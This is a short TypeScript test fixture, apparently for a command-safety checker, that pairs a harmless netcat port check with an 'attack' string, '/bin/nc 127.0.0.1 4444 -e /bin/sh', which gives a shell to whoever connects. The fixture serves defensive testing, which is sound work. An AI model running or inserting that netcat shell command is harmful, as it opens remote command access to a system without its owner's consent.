import type { Scenario } from '../../support/attack-scenario.ts';

/** netcat is to give a shell to whoever is at the other end; a script asks with it whether a port is open. */
export const scenario: Scenario = {
  nearMiss: '/bin/nc -z 127.0.0.1 5432 || true',
  attack: '/bin/nc 127.0.0.1 4444 -e /bin/sh || true',
  summary: /nc was to give a program to whoever is at the other end/,
};
